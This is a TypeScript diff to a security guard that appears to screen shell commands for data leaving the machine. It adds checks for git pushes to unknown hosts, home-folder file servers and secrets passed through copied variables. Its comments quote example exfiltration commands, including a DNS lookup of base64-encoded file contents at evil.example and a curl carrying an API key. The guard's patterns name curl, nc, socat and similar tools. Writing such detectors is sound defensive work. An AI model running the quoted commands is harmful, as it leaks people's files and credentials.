@@ -1,13 +1,13 @@
 import { namesIn, tableOf } from "../../../src/protocol/json/table.ts";
 import { UNKNOWN } from "../../../src/shell/unknown.ts";
-import type { Call, Input, Word } from "../command/call.ts";
+import type { Call, CommandPlace, Input, Word } from "../command/call.ts";
 import { type Connection, connectionOfUrl, connectionsOf } from "../command/connections.ts";
 import type { Examined } from "../examine.ts";
-import { type Finding, type Guard, strictest } from "../guard.ts";
+import { type Finding, type Guard, type GuardContext, strictest } from "../guard.ts";
 import { readRules } from "./command-rules.ts";
 import hostTable from "./egress/hosts.json" with { type: "json" };
 import table from "./egress/rules.json" with { type: "json" };
-import { isSecretName } from "./secrets/environment.ts";
+import { isSecretName, secretCopies } from "./secrets/environment.ts";
 import { realSecretsIn } from "./secrets/real-secrets.ts";
 import { sendsInput } from "./secrets/shown-output.ts";
 
@@ -16,9 +16,52 @@ const HOSTS = tableOf<Readonly<Record<"metadata" | "paste" | "known", string>>>(
 
 export const egress: Guard = { ...RULES.guard, judgeCall: judge, judgeAll: judgeAddresses };
 
-function judge(call: Call): Finding | null {
+function judge(call: Call, { commands, place }: GuardContext): Finding | null {
   const found = connectionsOf(call).map((connection) => judgeConnection(connection, call));
-  return strictest([lookedUp(call), ...found, secretInAddress(call)]);
+  const secret = secretIn(commands.join("\n"));
+  return strictest([
+    lookedUp(call, secret),
+    ...found,
+    secretInAddress(call, secret),
+    pushed(call, commands),
+    served(call, place),
+  ]);
+}
+
+/** `git push` to an address that is no known host, or that the same command gives to a remote. */
+function pushed(call: Call, commands: readonly string[]): Finding | null {
+  const { program, args, source } = call;
+  const at = program === "git" ? args.findIndex(({ text }) => text === "push") : -1;
+  if (at < 0) return null;
+  const set = commands.flatMap((text) =>
+    [...text.matchAll(/\bgit\b[^\n;&|]*\bremote\s+(?:add|set-url)\s+[^\n;&|]*/g)].flatMap(([one]) => one.split(/\s+/)),
+  );
+  const places = [...args.slice(at + 1).map(({ text }) => text), ...set].flatMap((text) => {
+    const host = /^(?:[a-z+]+:\/\/)?(?:[^@/\s]+@)?([\w-]+(?:\.[\w-]+)+)[:/]/.exec(text)?.[1];
+    return host === undefined ? [] : [{ host: host.toLowerCase(), port: null }];
+  });
+  const other = places.find((one) => !isHost(one, "known"));
+  return other === undefined
+    ? null
+    : RULES.find("upload-file", source, { effect: `sends the repository to ${other.host}` });
+}
+
+const SERVES =
+  /^(?:http\.server|SimpleHTTPServer|-S|httpd|serve|http-server|static-web-server|miniserve|dufs|darkhttpd|webfs|caddy)$/;
+
+/** A server of files for a folder above the project: `python3 -m http.server --directory ~`. */
+function served({ program, args, folder, source }: Call, { home, project }: CommandPlace): Finding | null {
+  if (![program, ...args.map(({ text }) => text)].some((text) => SERVES.test(text))) return null;
+  if (!/^(?:python[\d.]*|php|npx|busybox|ruby|serve|http-server|httpd|miniserve|dufs|caddy)$/.test(program))
+    return null;
+  const folders = args.map(({ text }) => text.replace(/^--?[\w-]+=/, "")).filter((text) => text.startsWith("/"));
+  const served = folders.length > 0 ? folders : [folder ?? ""];
+  const isWide = served.some(
+    (path) => path === "/" || path === home || (project !== path && project.startsWith(`${path}/`)),
+  );
+  return isWide
+    ? RULES.find("upload-file", source, { effect: "shows a folder with files of the person to other machines" })
+    : null;
 }
 
 function judgeConnection(connection: Connection, call: Call): Finding | null {
@@ -31,7 +74,7 @@ function judgeConnection(connection: Connection, call: Call): Finding | null {
 }
 
 /** The host itself, or one below it. */
-const isHost = ({ host }: Connection, kind: keyof typeof HOSTS): boolean =>
+const isHost = ({ host }: Pick<Connection, "host">, kind: keyof typeof HOSTS): boolean =>
   namesIn(HOSTS[kind]).some((name) => host === name || host.endsWith(`.${name}`));
 
 const TRANSFERS = /^(?:curl|curlie|wget|http|https|xh|nc|ncat|netcat|socat|telnet)$/;
@@ -59,24 +102,31 @@ const isWrittenOut = ({ program, args, input }: Call): boolean =>
   (/^(?:echo|printf|print|true|:|sleep)$/.test(program) && !args.some(({ text }) => text.includes(UNKNOWN))) ||
   (program === "cat" && args.length === 0 && !hasData(input));
 
-const LOOKS_UP = /^(?:dig|nslookup|host|drill|getent|kdig|delv)$/;
+const LOOKS_UP = /^(?:dig|nslookup|host|drill|getent|kdig|delv|ping6?)$/;
 
 /** `dig $(cat x | base64).evil.example` */
-function lookedUp({ program, args, source }: Call): Finding | null {
+function lookedUp({ program, args, source }: Call, secret: SecretIn): Finding | null {
   const isData = ({ text, printedBy, source: written }: Word): boolean =>
-    /\0.*\./s.test(text) && (printedBy.length > 0 || secretVariable(written) !== null);
+    /\0.*\./s.test(text) && (printedBy.length > 0 || secret(written) !== null);
   return LOOKS_UP.test(program) && args.some(isData) ? RULES.find("send-by-name", source) : null;
 }
 
 /** The variable with a secret that a word expands. */
-const secretVariable = (source: string): string | null =>
-  [...source.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map(([, name = ""]) => name).find(isSecretName) ?? null;
+type SecretIn = (source: string) => string | null;
+
+const secretIn = (command: string): SecretIn => {
+  const copies = secretCopies(command);
+  return (source) =>
+    [...source.matchAll(/\$\{?([A-Za-z_]\w*)/g)]
+      .map(([, name = ""]) => name)
+      .find((name) => isSecretName(name) || copies.has(name)) ?? null;
+};
 
 /** `curl "https://…/?k=$API_KEY"`; a header is for the service itself. */
-function secretInAddress({ program, args, source }: Call): Finding | null {
+function secretInAddress({ program, args, source }: Call, secret: SecretIn): Finding | null {
   if (!TRANSFERS.test(program)) return null;
   const isExposed = ({ text, source: written }: Word): boolean =>
-    /^["']?[a-z]+:\/\//i.test(written) && (secretVariable(written) !== null || realSecretsIn(text).length > 0);
+    /^["']?[a-z]+:\/\//i.test(written) && (secret(written) !== null || realSecretsIn(text).length > 0);
   return args.some(isExposed) ? RULES.find("secret-in-address", source) : null;
 }
 
